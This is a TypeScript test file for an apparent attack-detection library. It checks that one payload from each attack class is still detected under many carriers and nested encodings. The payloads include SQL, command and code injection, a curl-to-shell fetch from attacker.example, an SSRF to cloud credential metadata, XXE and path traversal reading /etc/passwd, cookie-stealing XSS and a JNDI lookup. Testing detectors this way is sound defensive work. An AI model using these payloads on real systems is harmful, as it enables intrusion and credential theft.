import assert from 'node:assert/strict';
import { Buffer } from 'node:buffer';
import { describe, test } from 'node:test';
import { deflateSync, gzipSync } from 'node:zlib';
import type { AttackClassName } from '@postern/core';
import { inspectEvent } from './index.ts';
import { provideNodeHost } from './node.ts';
import { carriers } from './testing/carriers.ts';

// One attack of each class that a text can show, in the words of its language; none depends on how it travels, but that an option begins its value.
const payloads: readonly (readonly [AttackClassName, string])[] = [
  ['sqli', "' UNION SELECT login, secret FROM accounts -- "],
  ['sqli', "1; WAITFOR DELAY '0:0:9' --"],
  ['nosqli', "'; return this.secret != null; var x='"],
  ['cmdi', 'report.pdf; curl http://attacker.example/x | sh'],
  ['cmdi', '-oProxyCommand=curl http://attacker.example/x'],
  ['codei', "require('child_process').execSync('id').toString()"],
  ['codei', "__import__('os').system('id')"],
  ['ssrf', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
  ['xxe', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'],
  ['lfi', '../../../../../../etc/passwd'],
  ['xss', '<img src=x onerror=alert(document.cookie)>'],
  ['deserialization', "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"],
  ['ssti', "{{''.__class__.__mro__[1].__subclasses__()}}"],
  ['ldapi', '*)(uid=*))(|(uid=*'],
  ['xpathi', "' or count(//user/*)=5 or 'a'='b"],
  ['jndi', '${jndi:ldap://attacker.example/a}'],
];

provideNodeHost();

describe('the same attack is the same detection however it travels', () => {
  for (const { name, wrap } of carriers)
    test(name, () => {
      for (const [attack, payload] of payloads)
        if (!(name === 'behind 128 KB in the same text' && payload.startsWith('-'))) assertDetected(attack, wrap(payload), payload);
    });
});

const encoders: readonly (readonly [string, (text: string) => string])[] = [
  ['base64', (text) => Buffer.from(text).toString('base64')],
  ['base64url', (text) => Buffer.from(text).toString('base64url')],
  ['hex', (text) => Buffer.from(text).toString('hex')],
  ['gzip in base64', (text) => gzipSync(text).toString('base64')],
  ['zlib in base64', (text) => deflateSync(text).toString('base64')],
  ['percent', (text) => encodeURIComponent(text)],
  ['form', (text) => `id=7&note=${encodeURIComponent(text).replaceAll('%20', '+')}`],
  ['JSON', (text) => JSON.stringify({ id: 7, note: text })],
  ['XML', (text) => `<order><id>7</id><note>${text.replace(/[<>&"']/g, (unit) => `&#${unit.charCodeAt(0)};`)}</note></order>`],
  ['data: URL', (text) => `data:text/plain;base64,${Buffer.from(text).toString('base64')}`],
];

describe('encodings in any order', () => {
  for (const [outer, wrap] of encoders)
    for (const [inner, encode] of encoders)
      test(`${inner} in ${outer}`, () => {
        for (const [attack, payload] of payloads)
          assertDetected(attack, { Records: [{ eventSource: 'aws:sqs', messageId: '1', body: wrap(encode(payload)) }] }, payload);
      });
});

function assertDetected(attack: AttackClassName, event: unknown, payload: string): void {
  const { detections, incomplete } = inspectEvent(event);
  const classes = detections.map((detection) => detection.class);
  assert.ok(classes.includes(attack) || incomplete !== undefined, `${payload}: ${classes.join(', ') || 'nothing'} found, not ${attack}`);
}
